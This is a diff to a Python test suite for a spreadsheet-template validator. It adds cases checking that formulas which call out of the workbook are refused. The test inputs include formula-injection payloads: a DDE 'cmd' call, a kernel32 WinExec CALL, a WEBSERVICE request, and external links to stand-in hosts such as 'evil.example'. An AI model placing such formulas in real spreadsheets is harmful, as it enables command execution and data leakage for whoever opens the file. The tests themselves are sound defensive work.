@@ -6,6 +6,7 @@ import io
 import re
 import zipfile
 from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pytest
@@ -14,7 +15,9 @@ from hypothesis import strategies as st
 
 from csmcalc.errors import CsmcalcError, WorkbookError
 from csmcalc.reports.template import Limits, Template, compile_content, compile_template
+from csmcalc.reports.template.outward import calls_out
 from tests.reports.templates import accounts, opened, parts, saved, template, with_parts, workbook
+from tests.reports.test_template_follow import with_table
 
 MESSY = Path(__file__).parents[1] / "files" / "messy"
 GOOD = saved(workbook())
@@ -100,14 +103,31 @@ def test_what_reaches_out_or_blows_up_is_refused(
         hostile(changed)
 
 
+OTHER_BOOKS = [
+    "=[1]Sheet1!A1",
+    "='[2]Sheet 1'!A1+1",
+    r"='C:\x\[b.xlsx]S'!A1",
+    r"=C:\x\[b.xlsx]S!A1",
+    r"='\\evil.example\share\[b.xlsx]S'!A1",
+    "='http://evil/[b.xlsx]S'!A1",
+    "=[ext.xlsx]S!A1",
+    "=[ext.xlsx]!Rate",
+    "=[1]Jan:Mar!A1",
+    "='file:///tmp/x/[ext.xlsx]S'!A1",
+    "='file:///tmp/x/ext.xlsx'#$S.A1",
+    r"='C:\x\b.xlsx'!Rate",
+    "=b.xlsx!Rate",
+    "='my b.xlsx'!Rate",
+]
+
+
 @pytest.mark.parametrize(
     "formula",
     [
+        *OTHER_BOOKS,
         "=cmd|'/C calc'!A0",
         '=WEBSERVICE("http://x/"&B2)',
         '=RTD("a",,"b")',
-        "=[1]Sheet1!A1",
-        "='[2]Sheet 1'!A1+1",
         '=CALL("kernel32","WinExec","JCJ","calc",1)',
     ],
 )
@@ -118,7 +138,21 @@ def test_formulas_that_call_out_are_refused_with_their_cell(formula: str) -> Non
         template(book)
 
 
-@pytest.mark.parametrize("formula", ['="a|b!"', '=IF(A1="RTD(",1,2)', "=RECALL_RATE*2"])
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '="a|b!"',
+        '=IF(A1="RTD(",1,2)',
+        "=RECALL_RATE*2",
+        "='Customers & Co'!A1+Summary!A2",
+        "=SUM('Summary:Customers & Co'!A1)",
+        "=SUM(Accounts[ARR])*Summary!A2",
+        "=SUM(T[2024])*Summary!A2",
+        "=SUM(T['[x']],T['#y''s])-'Customers & Co'!A1",
+        "=[0]!Rate",
+        """="'C:\\x\\[b.xlsx]S'!A1\"""",
+    ],
+)
 def test_words_that_only_look_like_it_are_kept(formula: str) -> None:
     book = workbook()
     book["Summary"]["C7"] = formula
@@ -133,6 +167,33 @@ def test_functions_with_the_prefix_of_a_file_are_seen(function: str) -> None:
         book["Summary"]["C7"] = f'={place}{function}("http://x/"&B2)'
         with pytest.raises(WorkbookError, match="Summary!C7: the formula calls out"):
             template(book)
+
+
+@pytest.mark.parametrize("formula", OTHER_BOOKS)
+def test_a_sheet_may_be_called_as_a_file_is(formula: str) -> None:
+    assert calls_out(formula, ["s", "sheet1"])
+    assert not calls_out("b.xlsx!A1+'my b.xlsx'!A1", ["b.xlsx", "my b.xlsx"])
+
+
+def test_charts_shapes_controls_and_sparklines_that_refer_to_other_books_are_refused() -> None:
+    path = r"'C:\x\[b.xlsx]S'!$A$1:$A$3"
+
+    def draw(sheet: Any, book: Any) -> None:
+        chart = book.add_chart({"type": "line"})
+        chart.add_series({"values": "=D!$B$2:$B$4"})
+        sheet.insert_chart("F1", chart)
+        sheet.add_sparkline("D1", {"range": "D!B2:B4"})
+
+    content = with_table(3, draw)
+    for old in ("D!$B$2:$B$4", "D!B2:B4"):
+        name = next(n for n, part in parts(content).items() if f">{old}<".encode() in part)
+        part = parts(content)[name].decode()
+        changed = with_parts(content, {name: part.replace(f">{old}<", f">{path}<", 1)})
+        with pytest.raises(WorkbookError, match="calls out of the workbook"):
+            compile_content("t.xlsx", changed, Limits())
+    control = f'<formControlPr objectType="Drop" fmlaRange="{path}"/>'
+    with pytest.raises(WorkbookError, match="calls out of the workbook"):
+        hostile({"xl/ctrlProps/ctrlProp1.xml": control})
 
 
 @pytest.mark.parametrize("hidden", [None, True])
